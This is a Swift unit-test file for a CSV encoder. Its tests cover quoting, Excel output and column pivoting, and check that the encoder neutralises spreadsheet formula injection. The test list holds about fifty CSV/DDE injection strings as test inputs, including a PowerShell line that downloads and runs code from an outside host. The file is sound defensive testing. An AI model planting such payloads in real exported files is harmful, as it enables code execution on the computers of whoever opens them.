import Testing
import Transcripts

@testable import Reports

@Suite struct CSVRecordEncoderTests {
  private func cell(_ text: String, _ dialect: CSVDialect) -> String {
    var out: [UInt8] = []
    CSVRecordEncoder.appendText(text, to: &out, dialect: dialect)
    return String(decoding: out, as: UTF8.self)
  }

  @Test(arguments: [
    ("", ""), ("a", "a"), ("a,b", "\"a,b\""), ("a\"b", "\"a\"\"b\""), ("\"", "\"\"\"\""), ("a\nb", "\"a\nb\""),
    ("a\rb", "\"a\rb\""), ("a\r\nb", "\"a\r\nb\""), (" a ", " a "), ("退款，急", "退款，急"), ("a;b", "a;b"), ("=1", "=1"),
  ])
  func quotesForPrograms(_ text: String, _ expected: String) { #expect(cell(text, .rfc4180) == expected) }

  /// What spreadsheets run, or once ran, as a formula; the guard must stand before every one of them.
  static let payloads = [
    "=1+1", "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=HYPERLINK(\"http://x\",\"y\")", "=IMPORTXML(\"http://x\",\"//a\")", "=IMPORTDATA(\"http://x\")",
    "=IMPORTRANGE(\"k\",\"A1\")", "=IMPORTHTML(\"http://x\",\"table\",1)", "=IMPORTFEED(\"http://x\")",
    "=IMAGE(\"http://x\")", "=WEBSERVICE(\"http://x\")", "=FILTERXML(\"<a/>\",\"//a\")", "=INDIRECT(\"A1\")",
    "=SUM(A1:A9)",
    "=A1", "=", "==1", "=\u{0}1", "= 1", "=\t1", "+1+1", "+cmd|' /C calc'!A0", "+HYPERLINK(\"http://x\")", "+",
    "+86 139 0000 0000", "-1+1", "-cmd|' /C calc'!A0", "-2+3+cmd|' /C notepad'!A0", "-", "--1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1", "@", "\t=1+1", "\t", "\tplain", "\r=1+1", "\r", "\n=1+1", "\n", "\r\n=1+1", "＝1+1", "＝cmd|' /C calc'!A0",
    "＋1",
    "－1", "＠SUM(1)", "=\"a\"", "=\"a\",\"b\"", "=1,=2",
  ]

  @Test(arguments: payloads) func guardsFormulas(_ payload: String) {
    var out: [UInt8] = []
    CSVRecordEncoder.appendText(payload, to: &out, dialect: .excel)
    // After the quotes are taken off, the first character is the apostrophe.
    let isQuoted = out.first == 0x22
    #expect(out[isQuoted ? 1 : 0] == 0x27)
    let text = String(decoding: isQuoted ? Array(out.dropFirst(2).dropLast()) : Array(out.dropFirst()), as: UTF8.self)
    #expect(text.replacing("\"\"", with: "\"") == payload)
  }

  @Test func knowsEnoughPayloads() { #expect(Set(Self.payloads).count >= 40) }

  @Test(arguments: ["1", "a=1", "'=1", "1-1", "a@b.c", "退款", "（=1）", "“=1”", " a"])
  func leavesTextsAlone(_ text: String) { #expect(cell(text, .excel) == text) }

  @Test func writesHeaders() {
    let columns = ["id", "a,b", "=c"]
    #expect(CSVRecordEncoder.header(columns: columns, dialect: .rfc4180) == Array("id,\"a,b\",=c\n".utf8))
    #expect(
      CSVRecordEncoder.header(columns: columns, dialect: .excel) == [0xEF, 0xBB, 0xBF]
        + Array("id,\"a,b\",'=c\r\n".utf8))
  }

  /// A record with every kind of field.
  private func write(_ encoder: inout CSVRecordEncoder) {
    encoder.begin("demo/1")
    encoder.field("text", "=退款")
    encoder.field("bytes", utf8: Array("x,y".utf8)[...])
    encoder.field("count", -3)
    encoder.field("score", hundredths: -850)
    encoder.field("none", hundredths: nil)
    encoder.field("ratio", number: 0.25)
    encoder.field("flag", true)
    encoder.fieldNull("null")
    encoder.field("json", json: Array("[1,2]".utf8))
    encoder.beginList("tags")
    encoder.item("a")
    encoder.item("b;c")
    encoder.endList()
    encoder.beginNested("by")
    encoder.nestedField(name: "team", value: "一组")
    encoder.endNested()
    encoder.beginList("items")
    for (name, value) in [("greeting", "pass"), ("closing", "fail"), ("unlisted", "pass")] {
      encoder.beginItem()
      encoder.field("item", name)
      encoder.field("result", value)
      encoder.field("count", 9)
      encoder.beginList("deep")
      encoder.beginItem()
      encoder.field("item", "inner")
      encoder.field("result", "inner")
      encoder.endItem()
      encoder.endList()
      encoder.endItem()
    }
    encoder.endList()
    encoder.end()
  }

  private let columns = [
    "text", "bytes", "count", "score", "none", "ratio", "flag", "null", "json", "tags", "by.team", "item.closing",
    "item.greeting", "item.inner", "absent",
  ]
  private let pivot = CSVRecordEncoder.Pivot(list: "items", key: "item", value: "result", prefix: "item.")

  @Test func fillsColumns() {
    var encoder = CSVRecordEncoder(columns: columns, dialect: .rfc4180, pivot: pivot)
    write(&encoder)
    let expected = "=退款,\"x,y\",-3,-8.5,,0.25,true,,\"[1,2]\",a;b;c,一组,fail,pass,,\n"
    #expect(String(decoding: encoder.bytes, as: UTF8.self) == expected)
  }

  @Test func keepsNumbersNumbersForSpreadsheets() {
    var encoder = CSVRecordEncoder(columns: ["text", "count", "score"], dialect: .excel)
    write(&encoder)
    #expect(String(decoding: encoder.bytes, as: UTF8.self) == "'=退款,-3,-8.5\r\n")
  }

  @Test func startsEveryRowAnew() {
    var encoder = CSVRecordEncoder(columns: columns, dialect: .rfc4180, pivot: pivot)
    write(&encoder)
    encoder.removeAll()
    encoder.begin("demo/1")
    encoder.field("text", "x")
    encoder.end()
    #expect(
      String(decoding: encoder.bytes, as: UTF8.self) == "x" + String(repeating: ",", count: columns.count - 1) + "\n")
  }
}
